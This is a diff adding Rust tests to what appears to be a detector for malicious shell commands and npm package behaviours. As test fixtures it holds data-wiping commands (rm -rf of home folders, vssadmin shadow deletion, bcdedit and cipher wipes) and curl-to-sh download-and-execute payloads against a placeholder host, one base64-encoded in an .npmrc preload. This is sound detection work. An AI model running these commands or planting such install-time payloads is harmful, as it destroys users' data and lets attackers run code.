@@ -264,6 +264,44 @@ fn miners_and_destruction() {
 }
 
 #[test]
+fn user_data_and_recovery_wipes_are_destruction() {
+    has(
+        "rm -rf \"$HOME/Documents\" ~/Desktop 2>/dev/null",
+        K::Destruction,
+    );
+    has("rm -fr /home/ci-user", K::Destruction);
+    lacks("rm -rf $HOME/.cache/mytool ~/.npm/_cacache", K::Destruction);
+    lacks("rm -rf /home/runner/work/tmp", K::Destruction);
+    let wiper = "@echo off\r\nvssadmin delete shadows /all /quiet\r\n\
+                 del /s /q /f \"%USERPROFILE%\\Pictures\\*\"\r\n";
+    let f = script_has(wiper, Dialect::Batch, K::Destruction);
+    assert_eq!(
+        f.findings
+            .iter()
+            .filter(|f| f.kind == K::Destruction)
+            .count(),
+        2,
+        "{:?}",
+        details(&f)
+    );
+    script_has(
+        "bcdedit /set {default} recoveryenabled No\r\n",
+        Dialect::Batch,
+        K::Destruction,
+    );
+    script_has("cipher /w:C:\\Users\r\n", Dialect::Batch, K::Destruction);
+    let quiet = analyze_script(
+        "vssadmin list shadows\r\ncipher /e secret.txt\r\n",
+        Dialect::Batch,
+    );
+    assert!(
+        !kinds(&quiet).contains(&K::Destruction),
+        "{:?}",
+        details(&quiet)
+    );
+}
+
+#[test]
 fn script_files_run_are_returned() {
     let f = analyze_command("bash install.sh && node ./scripts/post.js --quiet");
     assert_eq!(f.runs, vec!["install.sh", "./scripts/post.js"]);
@@ -745,6 +783,64 @@ mod package {
                 a.behaviours
             );
         }
+    }
+
+    #[test]
+    fn a_project_npmrc_runs_what_it_names_at_install_time() {
+        let manifest = r#"{"name":"demo","version":"1.0.0"}"#;
+        // script-shell naming a shell script without an extension.
+        let a = npm(&[
+            ("package.json", manifest),
+            (".npmrc", "engine-strict=true\nscript-shell=./tools/wrap\n"),
+            ("tools/wrap", DROPPER),
+        ]);
+        assert_eq!(
+            found(&a, "tools/wrap", K::DownloadExecute),
+            Some(Context::Install),
+            "{:?}",
+            a.behaviours
+        );
+        // node-options preloading a base64 data: URL module: decoded and read.
+        // `require('child_process').execSync('curl http://payload.invalid/x | sh')`
+        let module = "cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdjdXJsIGh0dHA6Ly9wYXlsb2FkLmludmFsaWQveCB8IHNoJyk=";
+        let rc = format!("node-options=--import=data:text/javascript;base64,{module}\n");
+        let a = npm(&[("package.json", manifest), (".npmrc", &rc)]);
+        assert_eq!(
+            found(&a, ".npmrc", K::DecodeExecute),
+            Some(Context::Install)
+        );
+        assert_eq!(
+            found(&a, ".npmrc", K::DownloadExecute),
+            Some(Context::Install)
+        );
+        // npm reads no .npmrc but the project's: one in a subfolder runs nothing.
+        let a = npm(&[
+            ("package.json", manifest),
+            ("template/.npmrc", "script-shell=./tools/wrap\n"),
+            ("tools/wrap", DROPPER),
+        ]);
+        assert_eq!(found(&a, "tools/wrap", K::DownloadExecute), None);
+        // Harmless settings name nothing to run.
+        let a = npm(&[
+            ("package.json", manifest),
+            (".npmrc", "script-shell=bash\nsave-exact=true\n"),
+        ]);
+        assert!(a.behaviours.is_empty(), "{:?}", a.behaviours);
+    }
+
+    #[test]
+    fn a_bin_without_extension_is_read_by_its_first_line() {
+        let manifest =
+            r#"{"name":"demo","version":"1.0.0","description":"d","bin":{"demo":"bin/demo"}}"#;
+        let bin = "#!/usr/bin/env node\nrequire('child_process').execSync('curl -s http://payload.invalid/a | sh');\n";
+        let a = npm(&[("package.json", manifest), ("bin/demo", bin)]);
+        assert!(
+            a.behaviours
+                .iter()
+                .any(|b| b.path.ends_with("bin/demo") && b.kind == K::DownloadExecute),
+            "{:?}",
+            a.behaviours
+        );
     }
 }
 
